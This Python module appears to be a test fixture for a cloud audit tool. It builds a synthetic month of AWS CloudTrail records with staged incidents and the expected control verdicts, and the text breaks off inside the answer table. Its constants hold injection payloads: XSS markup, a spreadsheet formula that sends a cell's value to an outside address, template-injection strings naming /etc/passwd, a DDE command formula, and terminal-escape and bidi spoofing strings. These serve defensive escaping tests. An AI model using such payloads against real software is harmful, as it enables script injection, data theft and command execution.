"""The incident month: an organization trail with three accounts, and something wrong in most controls.

Each incident is one small function, in the order of the calendar. It adds its records and notes what the
controls must say about them.
"""

import json
from datetime import timedelta

from . import delivery, traffic
from . import records as r
from .delivery import HALF, LogSet, Truth
from .quiet_month import SETTINGS

NAME = "incident-month"
CORE, CARDS, CLINIC = "111122223333", "444455556666", "123456789012"
HOME = "us-east-1"
REGIONS = {
    CORE: ("us-east-1", "eu-central-1"),
    CARDS: ("us-east-1", "eu-central-1", "ap-northeast-1"),
    CLINIC: ("us-east-1", "eu-west-1"),
}
UNKNOWN = "999988887777"
PREFIX = "AWSLogs/o-exampleorg1"
STORE = "d-9067e5f6a7"
TRAIL = f"arn:aws:cloudtrail:{HOME}:{CORE}:trail/example-org-trail"

LOGS, LOGS_COPY = "example-health-org-logs", "example-health-org-logs-replica"
VAULT, RECORDS, EXPORTS = "example-cards-vault", "example-health-records", "example-health-exports"
ARCHIVE = "example-health-archive"
TABLES = {CARDS: "card-tokens", CLINIC: "appointments"}
FUNCTIONS = {CARDS: f"arn:aws:lambda:{HOME}:{CARDS}:function:tokenise",
             CLINIC: f"arn:aws:lambda:{HOME}:{CLINIC}:function:fhir-import"}
APPLICATIONS = {CARDS: "service/billing-api", CLINIC: "service/patient-portal"}
KEYS = tuple(f"arn:aws:kms:{HOME}:{CARDS}:key/" + r.guid(NAME, "cde", number) for number in (1, 2))

ADMIN = "IdentityAdmin"
CONTRACTOR = "ContractorDeploy"
REPLICATION = "service-role/org-logs-replication"
PLATFORM = "aws-reserved/sso.amazonaws.com/AWSReservedSSO_PlatformAdmin_0123456789abcdef"
NETWORK = "aws-reserved/sso.amazonaws.com/AWSReservedSSO_NetworkAdmin_1123456789abcdef"
SUPPORT = "aws-reserved/sso.amazonaws.com/AWSReservedSSO_SupportReadOnly_2123456789abcdef"
STAFF = "aws-reserved/sso.amazonaws.com/AWSReservedSSO_DeliveryStaff_3123456789abcdef"

USERS = {CORE: (("s.lopez", "203.0.113.51"),), CARDS: (("j.murphy", "203.0.113.52"),),
         CLINIC: (("p.nguyen", "2001:db8:22::53"),)}
PEOPLE = {
    CORE: ("9067e5f6a7-aaaa-0001", "أحمد.منصور", "PASSWORD,TOTP", PLATFORM, "203.0.113.61"),
    CARDS: ("9067e5f6a7-aaaa-0002", "田中太郎", "PASSWORD,WEBAUTHN", NETWORK, "203.0.113.62"),
    CLINIC: ("9067e5f6a7-aaaa-0003", "Ελένη.Νικολάου", "PASSWORD,TOTP", STAFF, "203.0.113.63"),
}

# Text that somebody outside chose. It must come out of every document as text.
MARKUP = '<script>alert("attestrail")</script><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://203.0.113.66/?c="&A1,"open")'
TEMPLATE = "{{7*7}} ${7*7} {% include '/etc/passwd' %} #{7*7}"
REVERSED = "aws-cli/2.31.4 \u202egpj.troper\u202c \u2066x\u2069\u200b"
ESCAPES = "curl/8.9 \u001b[2J\u001b[31mred\u001b[0m\r\n+SUM(1)"
LONG = "agent/" + "x" * 1017

CONSOLE = "AWS Internal"


def _name(label):
    return f"{NAME}/{label}"


def _person(account):
    user_id, name, _, permission_set, ip = PEOPLE[account]
    return r.role(account, permission_set, name), ip


def _admin(label, stamp, account, event, request, response=None):
    """A change of identities by the role that may make them."""
    who = r.role(account, ADMIN, "Łucja.Źdźbło", source_identity="l.zdzblo")
    return r.record(_name(label), r.at(stamp), account, HOME, "iam", event, who, "203.0.113.70", CONSOLE, request,
                    response, console=True)


def _contractor(label, stamp, source, event, request, response=None, error=None):
    who = r.role(CLINIC, CONTRACTOR, "=2+5@contractor")
    return r.record(_name(label), r.at(stamp), CLINIC, HOME, source, event, who, "198.51.100.90", FORMULA, request,
                    response, error=error)


def _denied(who, action):
    return ("AccessDenied", f"User: {who['arn']} is not authorized to perform: {action} because no identity-based "
                            f"policy allows the {action} action")


def _trust(principal):
    return json.dumps({"Version": "2012-10-17", "Statement": [
        {"Effect": "Allow", "Principal": principal, "Action": "sts:AssumeRole"}]})


# --- everyday --------------------------------------------------------------

def _everyday(log_set):
    window, index = r.at("2026-09-30T12:00:00"), 0
    while window < r.at("2026-11-01T00:00:00"):
        for account, regions in REGIONS.items():
            for region in regions:
                log_set.add(*traffic.half_day(NAME, account, region, window, index))
                if index % 2 and (account, region) != (CORE, HOME):
                    runtime = r.role(account, traffic.RUNTIME, "orders-import")
                    log_set.add(*traffic.object_traffic(NAME, account, region, window, runtime,
                                                        f"example-artifacts-{account}-{region}", "build", "198.51.100.7"))
        _data_traffic(log_set, window, index)
        _log_delivery(log_set, window, index)
        window, index = window + HALF, index + 1
    for number in range(31):
        day = r.at("2026-10-01T00:00:00") + timedelta(days=number)
        if day.weekday() < 5:
            for account in REGIONS:
                user_id, name, factors, permission_set, ip = PEOPLE[account]
                person = (CORE, HOME, STORE, user_id, name, factors, permission_set, ip)
                log_set.add(*traffic.working_day(NAME, day, account, HOME, USERS[account], (person,)))
            _organisation_reads(log_set, day)


def _data_traffic(log_set, window, index):
    """The applications that may read and write the data stores."""
    api = r.role(CARDS, APPLICATIONS[CARDS], "billing-api-7f9c")
    portal = r.role(CLINIC, APPLICATIONS[CLINIC], "patient-portal-5d2a")
    log_set.add(*traffic.object_traffic(NAME, CARDS, HOME, window, api, VAULT, "batch", "198.51.100.21"))
    log_set.add(*traffic.object_traffic(NAME, CLINIC, HOME, window, portal, RECORDS, "patient", "198.51.100.22"))
    if index % 4 == 1:
        log_set.add(*traffic.object_traffic(NAME, CLINIC, HOME, window, portal, EXPORTS, "insurer", "198.51.100.22"))
    if index % 2:
        for account, who, ip in ((CARDS, api, "198.51.100.21"), (CLINIC, portal, "198.51.100.22")):
            log_set.add(*traffic.table_traffic(NAME, account, HOME, window, who, TABLES[account], ip))
            log_set.add(*traffic.function_traffic(NAME, account, HOME, window, who, FUNCTIONS[account], ip))


def _log_delivery(log_set, window, index):
    """CloudTrail writes to the log bucket; once a week somebody reads there."""
    moment = window + timedelta(minutes=66)
    key = f"AWSLogs/o-exampleorg1/{CARDS}/CloudTrail/{HOME}/{window:%Y/%m/%d}/delivery-{index:03}.json.gz"
    trail = "cloudtrail.amazonaws.com"
    log_set.add(r.object_call(_name(f"delivery/{index}"), moment, CORE, HOME, "PutObject", r.service(trail), trail, trail,
                              LOGS, key, read=False))
    if index % 14 == 1:
        auditor = r.role(CORE, "LogReader", "weekly-review")
        log_set.add(r.object_call(_name(f"review/{index}"), moment + timedelta(hours=4), CORE, HOME, "GetObject", auditor,
                                  "203.0.113.71", r.BOTO, LOGS, key, read=True))


def _organisation_reads(log_set, day):
    for account in REGIONS:
        reader = r.role(account, traffic.INVENTORY, "inventory-daily")
        for source, event in (("organizations", "DescribeOrganization"), ("sso", "ListInstances")):
            log_set.add(r.record(_name(f"{event}/{account}/{day:%F}"), day + timedelta(hours=5), account, HOME, source,
                                 event, reader, "203.0.113.20", r.BOTO, None, None, read=True))


# --- incidents and their harmless neighbours, by date ------------------------

def _selectors_kept(log_set, truth):
    who, ip = _person(CORE)
    selectors = [
        {"name": "Management events", "fieldSelectors": [{"field": "eventCategory", "equals": ["Management"]}]},
        {"name": "All objects", "fieldSelectors": [{"field": "eventCategory", "equals": ["Data"]},
                                                   {"field": "resources.type", "equals": ["AWS::S3::Object"]}]},
    ]
    request = {"trailName": "example-org-trail", "advancedEventSelectors": selectors}
    log_set.add(r.record(_name("selectors"), r.at("2026-10-02T09:30:00"), CORE, HOME, "cloudtrail", "PutEventSelectors",
                         who, ip, CONSOLE, request, {"trailARN": TRAIL, "advancedEventSelectors": selectors}, console=True))


def _log_bucket_changes(log_set, truth):
    who, ip = _person(CORE)
    policy = {"Version": "2012-10-17", "Statement": [{
        "Sid": "Write", "Effect": "Allow", "Principal": {"Service": "cloudtrail.amazonaws.com"},
        "Action": "s3:PutObject", "Resource": f"arn:aws:s3:::{LOGS}/AWSLogs/o-exampleorg1/*",
        "Condition": {"StringEquals": {"aws:SourceArn": TRAIL}}}]}
    planned = r.bucket_call(_name("log-policy"), r.at("2026-10-04T00:30:00"), CORE, HOME, "PutBucketPolicy", who, ip, CONSOLE,
                            LOGS, {"bucketPolicy": policy, "policy": ""}, console=True)
    truth.note("logbucket-config-change", "excluded", planned, "inside the maintenance window CHG-2204")
    rule = {"ID": "shorter", "Status": "Enabled", "Filter": {"Prefix": ""}, "Expiration": {"Days": 30}}
    unplanned = r.bucket_call(_name("log-lifecycle"), r.at("2026-10-19T11:12:00"), CORE, HOME, "PutBucketLifecycle", who, ip,
                              CONSOLE, LOGS, {"lifecycle": "", "LifecycleConfiguration": {
                                  "xmlns": "http://s3.amazonaws.com/doc/2006-03-01/", "Rule": rule}}, console=True)
    truth.note("logbucket-config-change", "exception", unplanned, "retention of the logs cut to 30 days, outside of any window")
    log_set.add(planned, unplanned)


def _approved_identity_work(log_set, truth):
    log_set.add(
        _admin("group", "2026-10-06T09:40:00", CARDS, "AddUserToGroup", {"groupName": "developers", "userName": "j.murphy"}),
        _admin("admin-policy", "2026-10-06T09:42:00", CLINIC, "AttachRolePolicy",
               {"roleName": "PlatformOwner", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}),
        _admin("role-lambda", "2026-10-06T09:50:00", CLINIC, "CreateRole",
               {"roleName": "fhir-import", "assumeRolePolicyDocument": _trust({"Service": "lambda.amazonaws.com"})},
               {"role": {"roleName": "fhir-import", "arn": r.role_arn(CLINIC, "fhir-import"), "path": "/"}}),
        _admin("role-saml", "2026-10-06T09:55:00", CARDS, "CreateRole",
               {"roleName": "saml-reader", "assumeRolePolicyDocument": _trust(
                   {"Federated": f"arn:aws:iam::{CARDS}:saml-provider/ExampleIdP"})},
               {"role": {"roleName": "saml-reader", "arn": r.role_arn(CARDS, "saml-reader"), "path": "/"}}),
        _admin("trust-core", "2026-10-06T10:01:00", CARDS, "UpdateAssumeRolePolicy",
               {"roleName": "InventoryReader", "policyDocument": _trust({"AWS": f"arn:aws:iam::{CORE}:root"})}),
    )


def _sign_in_without_mfa(log_set, truth):
    login = r.console_login(_name("no-mfa"), r.at("2026-10-07T06:58:12"), CLINIC, HOME, r.user(CLINIC, "kiosk-lab"),
                            "203.0.113.80", mfa="No")
    truth.note("auth-console-mfa-iam", "exception", login, "no MFA; its waiver expired on 2026-09-30")
    log_set.add(login)


def _break_glass(log_set, truth):
    on_call = r.user(CARDS, "oncall", mfa=True)
    arn = r.role_arn(CARDS, "BreakGlassAdmin")
    uses = []
    for label, stamp, session in (("glass-approved", "2026-10-08T03:11:00", "INC-3310"),
                                  ("glass-unknown", "2026-10-22T21:14:00", "asap")):
        uses.append(r.assume_role(_name(label), r.at(stamp), CARDS, HOME, on_call, "203.0.113.81",
                                  r.CLI.format(command="sts.assume-role"), arn, session,
                                  serial=f"arn:aws:iam::{CARDS}:mfa/oncall"))
    truth.note("priv-break-glass-use", "waived", uses[0], "approved beforehand, waiver INC-3310")
    truth.note("priv-break-glass-use", "exception", uses[1], "nobody approved it")
    log_set.add(*uses)
    return uses[0]


def _recorder_restarted(log_set, truth):
    who = r.role(CARDS, ADMIN, "Łucja.Źdźbło")
    for stamp, event in (("2026-10-09T08:00:00", "StopConfigurationRecorder"), ("2026-10-09T08:04:00", "StartConfigurationRecorder")):
        log_set.add(r.record(_name(event), r.at(stamp), CARDS, HOME, "config", event, who, "203.0.113.70", CONSOLE,
                             {"configurationRecorderName": "default"}, None, console=True))


STOPPED = (r.at("2026-10-11T02:10:05"), r.at("2026-10-11T03:50:41"))


def _logging_stopped(log_set, truth):
    log_set.drop(lambda one: STOPPED[0] <= r.at(one["eventTime"].rstrip("Z")) <= STOPPED[1])
    who, ip = _person(CORE)
    stop = r.record(_name("stop"), STOPPED[0], CORE, HOME, "cloudtrail", "StopLogging", who, ip, CONSOLE, {"name": TRAIL},
                    console=True)
    start = r.record(_name("start"), STOPPED[1], CORE, HOME, "cloudtrail", "StartLogging", who, ip, CONSOLE,
                     {"name": "example-org-trail"}, console=True)
    truth.note("trail-stop-delete", "exception", stop, "the organization trail stood still for 100 minutes")
    truth.note("det-control-failure-recovery", "exception", stop, "restored after 100 minutes, 40 more than the hour allowed")
    log_set.add(stop, start)


def _leavers(log_set, truth):
    ana = r.user(CARDS, "ana.zolkiewska")
    cli = r.CLI.format(command="sts.get-caller-identity")
    log_set.add(
        r.record(_name("ana-before"), r.at("2026-10-09T12:00:00"), CARDS, HOME, "s3", "ListBuckets", ana, "203.0.113.82", cli,
                 {"Host": "s3.us-east-1.amazonaws.com"}, read=True),
        r.record(_name("lukasz-before"), r.at("2026-10-20T09:00:00"), CLINIC, HOME, "s3", "ListBuckets",
                 r.user(CLINIC, "lukasz.wisniewski"), "203.0.113.83", cli, {"Host": "s3.us-east-1.amazonaws.com"}, read=True),
    )
    session = r.role(CARDS, "ci-runner", "ana.zolkiewska")
    after = (
        r.record(_name("ana-1"), r.at("2026-10-13T08:11:00"), CARDS, HOME, "sts", "GetCallerIdentity", ana, "198.51.100.91",
                 REVERSED, None, None, read=True),
        r.record(_name("ana-2"), r.at("2026-10-13T08:12:30"), CARDS, HOME, "s3", "ListBuckets", ana, "198.51.100.91", REVERSED,
                 {"Host": "s3.us-east-1.amazonaws.com"}, read=True),
        r.record(_name("ana-3"), r.at("2026-10-13T09:05:00"), CARDS, "eu-central-1", "ec2", "DescribeImages", session,
                 "198.51.100.91", r.BOTO, {"imagesSet": {}}, read=True),
        r.record(_name("ana-4"), r.at("2026-10-14T08:30:00"), CARDS, "eu-central-1", "ec2", "DescribeInstances", ana,
                 "198.51.100.91", ESCAPES, {"instancesSet": {}}, read=True,
                 error=("Client.UnauthorizedOperation", "You are not authorized to perform this operation.")),
    )
    for one in after:
        truth.note("life-leaver-activity", "exception", one, "a leaver acted after 2026-10-12 17:00; refused calls count too")
    log_set.add(*after)
    late = _admin("ana-key", "2026-10-18T10:00:00", CARDS, "UpdateAccessKey",
                  {"userName": "ana.zolkiewska", "status": "Inactive", "accessKeyId": ana["accessKeyId"]})
    truth.note("life-leaver-disabled", "late response", late, "the key was switched off after nearly six days; the exception is the leaver")
    log_set.add(
        late,
        _admin("lukasz-login", "2026-10-20T15:40:00", CLINIC, "DeleteLoginProfile", {"userName": "lukasz.wisniewski"}),
        _admin("lukasz-key", "2026-10-20T15:41:00", CLINIC, "UpdateAccessKey",
               {"userName": "lukasz.wisniewski", "status": "Inactive",
                "accessKeyId": r.access_key("AKIA", CLINIC, "lukasz.wisniewski")}),
    )


def _failed_sign_ins(log_set, truth):
    for number in range(4):
        log_set.add(_failure(truth, f"typo/{number}", "2026-10-05T06:50:00", 40 * number, CORE, "s.lopez", "203.0.113.51"))
    for number in range(12):
        one = _failure(truth, f"burst/{number}", "2026-10-14T18:02:00", 100 * number, CARDS, "k.adeyemi", "198.51.100.92")
        truth.note("auth-failed-login-threshold", "burst 1", one, "12 failures of one user in 18 minutes")
        log_set.add(one)
    for number in range(11):
        one = _failure(truth, f"spray/{number}", "2026-10-27T04:00:00", 90 * number, CLINIC, None, "198.51.100.93", TEMPLATE)
        truth.note("auth-failed-login-threshold", "burst 2", one, "11 failures from one address, names hidden")
        log_set.add(one)


def _failure(truth, label, start, seconds, account, name, ip, agent=r.BROWSER):
    if name:
        who, message = r.user(account, name), "Failed authentication"
    else:
        who = {"type": "IAMUser", "principalId": "", "accountId": account, "accessKeyId": "",
               "userName": "HIDDEN_DUE_TO_SECURITY_REASONS"}
        message = "No username found in supplied account"
    one = r.console_login(_name(label), r.at(start) + timedelta(seconds=seconds), account, HOME, who, ip, mfa="No",
                          failure=message, agent=agent)
    truth.note("auth-console-mfa-iam", "attempt", one, "a sign-in of an IAM user that failed")
    return one


def _unapproved_reads(log_set, truth):
    support = r.role(CLINIC, SUPPORT, "d.okafor")
    for number in (1, 2):
        one = r.object_call(_name(f"support/{number}"), r.at("2026-10-16T14:00:00") + timedelta(minutes=number), CLINIC, HOME,
                            "GetObject", support, "203.0.113.84", LONG, RECORDS, f"patient/2026/10/0{number}/Ωmega-{number}.json",
                            read=True)
        truth.note("data-access-approved", "exception", one, "a support role that is not on the list read a health record")
        log_set.add(one)


def _root(log_set, truth):
    root = r.root(CARDS)
    key = r.access_key("AKIA", CARDS, "root")
    records = (
        r.console_login(_name("root-login"), r.at("2026-10-17T22:41:00"), CARDS, HOME, root, "198.51.100.94"),
        r.record(_name("root-list"), r.at("2026-10-17T22:44:10"), CARDS, HOME, "iam", "ListAccessKeys", root, "198.51.100.94",
                 CONSOLE, None, None, read=True, console=True),
        r.record(_name("root-key"), r.at("2026-10-17T22:46:00"), CARDS, HOME, "iam", "CreateAccessKey", root, "198.51.100.94",
                 CONSOLE, None, {"accessKey": {"accessKeyId": key, "status": "Active",
                                               "createDate": r.spoken(r.at("2026-10-17T22:46:00"))}}, console=True),
    )
    for one in records:
        truth.note("root-api-activity", "exception", one, "the root user at work on a Saturday night")
    truth.note("iam-change-by-approved", "exception", records[2], "root is not on the list of approved identities")
    service = dict(root, invokedBy="fas.s3.amazonaws.com")
    log_set.add(*records, r.record(
        _name("root-service"), r.at("2026-10-17T22:45:00"), CARDS, HOME, "kms", "Decrypt", service, "fas.s3.amazonaws.com",
        "fas.s3.amazonaws.com", {"encryptionAlgorithm": "SYMMETRIC_DEFAULT", "encryptionContext": {}}, read=True,
        resources=[{"accountId": CARDS, "type": "AWS::KMS::Key", "ARN": KEYS[0]}]))


def _security_groups(log_set, truth):
    who, ip = _person(CARDS)
    place = (CARDS, "ap-northeast-1", "ec2", "AuthorizeSecurityGroupIngress")
    request, response = r.ingress("sg-0aaaabbbbcccc1111", 5432, "10.30.0.0/16", "backend", "sgr-0aaa1")
    private = r.record(_name("sg-private"), r.at("2026-10-15T05:00:00"), *place, who, ip, CONSOLE, request, response, console=True)
    request, response = r.ingress("sg-0aaaabbbbcccc1111", 22, "0.0.0.0/0", "一時的", "sgr-0aaa2")
    opened = r.record(_name("sg-world"), r.at("2026-10-15T05:02:40"), *place, who, ip, MARKUP, request, response)
    revoke = {"groupId": "sg-0aaaabbbbcccc1111", "securityGroupRuleIds": {"items": [{"securityGroupRuleId": "sgr-0aaa2"}]}}
    closed = r.record(_name("sg-revoke"), r.at("2026-10-15T08:20:00"), CARDS, "ap-northeast-1", "ec2",
                      "RevokeSecurityGroupIngress", who, ip, CONSOLE, revoke, {"_return": True}, console=True)
    truth.note("net-sg-open-world", "exception", opened, "port 22 open to 0.0.0.0/0 for three hours")
    request, _ = r.ingress("sg-0aaaabbbbcccc2222", 22, "0.0.0.0/0", "test", "sgr-0aaa3")
    support = r.role(CARDS, SUPPORT, "d.okafor")
    refused = r.record(_name("sg-refused"), r.at("2026-10-15T13:45:00"), CARDS, "eu-central-1", "ec2",
                       "AuthorizeSecurityGroupIngress", support, "203.0.113.84", r.BOTO, request, None,
                       error=("Client.UnauthorizedOperation", "You are not authorized to perform this operation. Encoded "
                              "authorization failure message: EXAMPLE-ENCODED-MESSAGE"))
    truth.note("net-sg-open-world", "attempt", refused, "refused, so nothing was opened")
    log_set.add(private, opened, closed, refused)
    return opened


def _contractor_changes(log_set, truth):
    who = r.role(CLINIC, CONTRACTOR, "=2+5@contractor")
    key = r.access_key("AKIA", CLINIC, "svc-sync")
    made = (
        _contractor("contractor-user", "2026-10-21T10:02:00", "iam", "CreateUser",
                    {"userName": "svc-sync", "tags": [{"key": "owner", "value": "@SUM(1+1)*cmd|' /C calc'!A0"}]},
                    {"user": {"userName": "svc-sync", "arn": r.user_arn(CLINIC, "svc-sync"), "path": "/"}}),
        _contractor("contractor-key", "2026-10-21T10:03:00", "iam", "CreateAccessKey", {"userName": "svc-sync"},
                    {"accessKey": {"userName": "svc-sync", "accessKeyId": key, "status": "Active",
                                   "createDate": r.spoken(r.at("2026-10-21T10:03:00"))}}),
        _contractor("contractor-padded", "2026-10-21T10:06:00", "iam", "PutUserPolicy",
                    {"omitted": True, "originalSize": 131842, "reason": "requestParameters too large"}),
    )
    for one in made:
        truth.note("iam-change-by-approved", "exception", one, "the role ContractorDeploy was not approved on that day")
    truth.note("priv-elevation", "undecided", made[2], "the policy was padded beyond 100 KB, so that the log left it out")
    login = _contractor("contractor-login", "2026-10-21T10:08:00", "iam", "CreateLoginProfile",
                        {"userName": "svc-sync", "passwordResetRequired": False}, error=_denied(who, "iam:CreateLoginProfile"))
    truth.note("iam-change-by-approved", "attempt", login, "refused")
    trail = _contractor("contractor-trail", "2026-10-21T10:12:00", "cloudtrail", "DeleteTrail", {"name": TRAIL},
                        error=_denied(who, "cloudtrail:DeleteTrail"))
    truth.note("trail-stop-delete", "attempt", trail, "refused")
    truth.note("det-control-failure-recovery", "attempt", trail, "refused, so there was nothing to restore")
    data = r.object_call(_name("contractor-data"), r.at("2026-10-21T10:15:00"), CLINIC, HOME, "GetObject", who, "198.51.100.90",
                         FORMULA, RECORDS, "patient/2026/10/20/index.json", read=True, error=_denied(who, "s3:GetObject"))
    truth.note("data-access-approved", "attempt", data, "refused")
    approved = _contractor("contractor-clean", "2026-10-26T09:00:00", "iam", "DeleteUser", {"userName": "svc-sync"})
    log_set.add(*made, login, trail, data, approved)


def _foreign_trust(log_set, truth):
    one = _admin("trust-foreign", "2026-10-23T13:30:00", CLINIC, "CreateRole",
                 {"roleName": "analytics-partner", "assumeRolePolicyDocument": _trust({"AWS": f"arn:aws:iam::{UNKNOWN}:root"})},
                 {"role": {"roleName": "analytics-partner", "arn": r.role_arn(CLINIC, "analytics-partner"), "path": "/"}})
    truth.note("iam-trust-external", "exception", one, f"account {UNKNOWN} is not on the list")
    log_set.add(one)


def _public_bucket(log_set, truth):
    who, ip = _person(CLINIC)

    def block(label, stamp, value):
        setting = {"xmlns": "http://s3.amazonaws.com/doc/2006-03-01/", "BlockPublicAcls": value, "IgnorePublicAcls": value,
                   "BlockPublicPolicy": value, "RestrictPublicBuckets": value}
        return r.bucket_call(_name(label), r.at(stamp), CLINIC, HOME, "PutBucketPublicAccessBlock", who, ip, CONSOLE, EXPORTS,
                             {"publicAccessBlock": "", "PublicAccessBlockConfiguration": setting}, console=True)

    policy = {"Version": "2012-10-17", "Statement": [{"Sid": "Everyone", "Effect": "Allow", "Principal": "*",
                                                     "Action": "s3:GetObject", "Resource": f"arn:aws:s3:::{EXPORTS}/*"}]}
    off = block("block-off", "2026-10-24T08:00:00", False)
    truth.note("pub-s3-block-off", "waived", off, "lifted for 75 minutes, waiver CHG-2290")
    public = r.bucket_call(_name("policy-public"), r.at("2026-10-24T08:30:00"), CLINIC, HOME, "PutBucketPolicy", who, ip, CONSOLE,
                           EXPORTS, {"bucketPolicy": policy, "policy": ""}, console=True)
    truth.note("pub-s3-policy-public", "exception", public, "everybody may read the exports")
    truth.note("pub-s3-policy-foreign", "exception", public, "everybody includes accounts that nobody knows")
    anyone = {"type": "AWSAccount", "principalId": "", "accountId": "ANONYMOUS_PRINCIPAL"}
    read = r.object_call(_name("anonymous"), r.at("2026-10-24T08:41:00"), CLINIC, HOME, "GetObject", anyone, "198.51.100.95",
                         "Wget/1.24.5", EXPORTS, "insurer/2026/10/23/claims.csv", read=True)
    truth.note("data-access-approved", "exception", read, "somebody without an identity read an export while it was public")
    removed = r.bucket_call(_name("policy-gone"), r.at("2026-10-24T09:10:00"), CLINIC, HOME, "DeleteBucketPolicy", who, ip,
                            CONSOLE, EXPORTS, {"policy": ""}, console=True)
    on = block("block-on", "2026-10-24T09:15:00", True)
    refused = r.bucket_call(_name("policy-refused"), r.at("2026-10-26T07:30:00"), CLINIC, HOME, "PutBucketPolicy", who, ip, CONSOLE,
                            EXPORTS, {"bucketPolicy": policy, "policy": ""}, console=True,
                            error=("AccessDenied", f"User: {who['arn']} is not authorized to perform: s3:PutBucketPolicy on "
                                   f"resource: \"arn:aws:s3:::{EXPORTS}\" because public policies are prevented by the "
                                   "BlockPublicPolicy setting in S3 Block Public Access."))
    truth.note("pub-s3-policy-public", "attempt", refused, "Block Public Access refused it")
    truth.note("pub-s3-policy-foreign", "attempt", refused, "Block Public Access refused it")
    log_set.add(off, public, read, removed, on, refused)
    return off


def _log_objects(log_set, truth):
    who, ip = _person(CORE)
    key = f"AWSLogs/o-exampleorg1/{CARDS}/CloudTrail/{HOME}/2026/10/17/delivery-035.json.gz"
    gone = r.object_call(_name("log-delete"), r.at("2026-10-29T19:20:00"), CORE, HOME, "DeleteObject", who, ip, MARKUP, LOGS, key,
                         read=False)
    truth.note("logbucket-object-tamper", "exception", gone, "a delivered log file was deleted")
    trainee = r.user(CORE, "t.ito")
    refused = r.object_call(_name("log-delete-refused"), r.at("2026-10-29T19:31:00"), CORE, HOME, "DeleteObject", trainee,
                            "203.0.113.85", r.CLI.format(command="s3.rm"), LOGS, key, read=False,
                            error=_denied(trainee, "s3:DeleteObject"))
    truth.note("logbucket-object-tamper", "attempt", refused, "refused")
    log_set.add(gone, refused)
    for number in (1, 2, 3):
        copier = dict(r.role(CORE, REPLICATION, "s3-replication"), invokedBy="s3.amazonaws.com")
        one = r.object_call(_name(f"replica/{number}"), r.at(f"2026-10-0{number}T04:00:00"), CORE, "eu-central-1", "PutObject",
                            copier, "s3.amazonaws.com", "s3.amazonaws.com", LOGS_COPY, f"{key}.{number}", read=False)
        truth.note("logbucket-object-tamper", "waived", one, "a copy by the replication role, waived by pattern")
        log_set.add(one)


def _keys_rotated(log_set, truth):
    for number, key in enumerate(KEYS):
        log_set.add(r.rotate_key(_name(f"rotate/{number}"), r.at(f"2026-10-0{6 + number}T01:41:59"), CARDS, HOME, key))


SCOPE = """\
# Scope of the sample `incident-month`. Made up: documentation account ids and addresses.
format = 1
organisation = "Example Health Παράδειγμα"
regions = ["us-east-1", "eu-central-1"]

[[account]]
id = "{core}"
name = "core"

[[account]]
id = "{cards}"
name = "cards-prod"
regions = ["us-east-1", "eu-central-1", "ap-northeast-1"]

[[account]]
id = "{clinic}"
name = "clinic-prod"
regions = ["us-east-1", "eu-west-1"]

# Nobody touched the archive in the whole month, so no record can show that it is recorded.
[[recorded]]
class = "s3-data-read"
account = "{core}"
stores = ["{archive}"]
source = "get-event-selectors of 2026-10-01, file selectors-2026-10-01.json"

[[recorded]]
class = "s3-data-write"
account = "{core}"
stores = ["{archive}"]
source = "get-event-selectors of 2026-10-01, file selectors-2026-10-01.json"

[lists]
log_buckets = ["{logs}", {{ prefix = "{logs}-" }}]
data_buckets = ["{vault}", "{records}", "{exports}", "{archive}"]
data_tables = ["card-tokens", "appointments"]
data_functions = [
    "arn:aws:lambda:us-east-1:{cards}:function:tokenise",
    "arn:aws:lambda:us-east-1:{clinic}:function:fhir-import",
]
approved_admins = [
    {{ wildcard = "arn:aws:iam::*:role/IdentityAdmin" }},
    {{ value = "arn:aws:iam::{clinic}:role/ContractorDeploy", from = 2026-10-26T08:00:00Z, until = 2026-10-26T18:00:00Z, reason = "CHG-2301, clean-up under supervision" }},
]
break_glass_roles = ["arn:aws:iam::{cards}:role/BreakGlassAdmin"]
break_glass_users = ["emergency"]
trusted_accounts = [
    "{core}", {{ prefix = "arn:aws:iam::{core}:" }},
    "{cards}", {{ prefix = "arn:aws:iam::{cards}:" }},
    "{clinic}", {{ prefix = "arn:aws:iam::{clinic}:" }},
]
identity_providers = [
    {{ wildcard = "arn:aws:iam::*:saml-provider/AWSSSO_*" }},
    "arn:aws:iam::{cards}:saml-provider/ExampleIdP",
]
data_access_roles = [
    "arn:aws:iam::{cards}:role/service/billing-api",
    "arn:aws:iam::{clinic}:role/service/patient-portal",
]
admin_policies = ["arn:aws:iam::aws:policy/AdministratorAccess", "arn:aws:iam::aws:policy/IAMFullAccess"]
cde_kms_keys = [
    "{key_1}",
    "{key_2}",
]

[[leaver]]
person = "Ana Żółkiewska"
identities = ["ana.zolkiewska", "arn:aws:iam::{cards}:user/ana.zolkiewska"]
left = 2026-10-12T17:00:00Z

[[leaver]]
person = "Łukasz Wiśniewski"
identities = ["lukasz.wisniewski", "arn:aws:iam::{clinic}:user/lukasz.wisniewski"]
left = 2026-10-20T15:00:00Z

# Left in the last minutes of the period: the time to disable access is not over when it ends.
[[leaver]]
person = "محمد الأحمد"
identities = ["m.alahmad", "arn:aws:iam::{core}:user/m.alahmad"]
left = 2026-10-31T23:30:00Z

[[maintenance]]
from = 2026-10-03T22:00:00Z
until = 2026-10-04T02:00:00Z
account = "{core}"
controls = ["logbucket-config-change"]
reason = "the log bucket accepts the new organization trail only"
ticket = "CHG-2204"

# In force.
[[waiver]]
control = "pub-s3-block-off"
event-ids = ["{block_off}"]
reason = "hand-over of the exports to the insurer; closed the same morning"
approver = "Ελένη Νικολάου"
ticket = "CHG-2290"
expires = 2026-12-31

[[waiver]]
control = "priv-break-glass-use"
event-ids = ["{glass}"]
reason = "incident INC-3310, payment outage; use approved beforehand by the person on duty"
approver = "田中太郎"
ticket = "INC-3310"
expires = 2026-12-31

[[waiver]]
control = "logbucket-object-tamper"
reason = "copies by S3 replication; the copy bucket has the same protection"
approver = "أحمد منصور"
ticket = "RISK-77"
expires = 2026-12-31
[waiver.pattern]
eventName = ["PutObject"]
userIdentity.sessionContext.sessionIssuer.arn = ["arn:aws:iam::{core}:role/service-role/org-logs-replication"]

# Expired before the period: the sign-in stays an exception.
[[waiver]]
control = "auth-console-mfa-iam"
event-ids = ["{kiosk}"]
reason = "laboratory kiosk without a person"
approver = "Ελένη Νικολάου"
ticket = "RISK-41"
expires = 2026-09-30
"""


def expected(truth):
    """Control, verdict, exceptions, waived, attempts, undecided, why; worked out by hand."""
    hole = "nothing wrong is on record, but the trail stood still for 100 minutes on 11 October"
    rows = [
        ("log-digest-chain", "not-determinable", "no digests in the set"),
